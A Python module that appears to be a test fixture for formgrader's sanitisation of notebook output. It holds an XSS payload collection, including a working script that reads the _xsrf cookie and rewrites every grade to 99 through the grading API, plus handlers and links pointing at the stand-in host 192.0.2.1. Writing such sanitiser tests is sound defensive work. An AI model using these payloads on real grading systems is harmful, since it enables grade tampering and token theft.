"""What a submission may put on a page to have it run, and what it would do: mark itself by formgrader's interface."""

from __future__ import annotations

PAYLOAD = (
    "window.ran = 1; fetch('/formgrader/api/grades?submission_id=' + (window.submission_id || '')).then(r => r.json())"
    ".then(all => all.forEach(one => fetch('/formgrader/api/grade/' + one.id, {method: 'PUT', headers: {'X-CSRFToken':"
    " (document.cookie.match(/_xsrf=([^;]*)/) || [])[1]}, body: JSON.stringify({...one, manual_score: 99})})))"
)
_EVENT = PAYLOAD.replace('"', "&quot;")
SCRIPTS = f"""
<script>{PAYLOAD}</script><img src=x onerror="{_EVENT}"><svg onload="{_EVENT}"><script>{PAYLOAD}</script></svg>
<a href="javascript:window.ran = 1" class="navbar-fixed-top">press</a> [press](javascript:window.ran=1)
<iframe srcdoc="<script>parent.ran = 1</script>"></iframe><details open ontoggle="{_EVENT}">x</details>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">
<form action="/formgrader/api/grade/1"><button formaction="javascript:window.ran=1" autofocus>press</button></form>
<style>@import url("http://192.0.2.1/x.css"); body {{ background: url(http://192.0.2.1/x.png) }}</style>
<link rel="stylesheet" href="http://192.0.2.1/y.css"><base href="http://192.0.2.1/"><meta http-equiv="refresh"
content="0; url=http://192.0.2.1/"><object data="page.svg"></object><embed src="page.svg"><video src="http://192.0.2.1/v"
onerror="{_EVENT}"></video><input onfocus="{_EVENT}" autofocus><p style="background: url(http://192.0.2.1/z)">z</p>
"""
LINKS = (
    "[a](page.html) [b](./page.svg) [c](/formgrader/api/assignments) [d](//192.0.2.1/x) "
    '<a href="&#106;avascript:window.ran=1">e</a> <a href=" javascript:window.ran=1">f</a> '
    '<a href="data:text/html,<script>opener.ran=1</script>">g</a> ![h](http://192.0.2.1/h.png) ![i](page.svg)'
)
COMMENT = "Because of the grades. <!-- --><script>window.ran = 1</script>"
# Code that shows the same as every kind of output that a page may know.
SHOWN = f"""
from IPython.display import display
for kind in ("text/html", "text/markdown", "image/svg+xml", "application/javascript", "text/latex", "image/png",
             "application/vnd.jupyter.widget-view+json", "application/pdf", "text/vnd.mermaid"):
    display({{kind: {SCRIPTS!r}, "text/plain": {SCRIPTS!r}}}, raw=True)
display({{"application/vnd.plotly.v1+json": {{"data": [{{"x": [1], "name": {SCRIPTS!r}}}],
    "layout": {{"title": {{"text": {SCRIPTS!r}}}}}}}, "text/html": {SCRIPTS!r}}}, raw=True)
"""
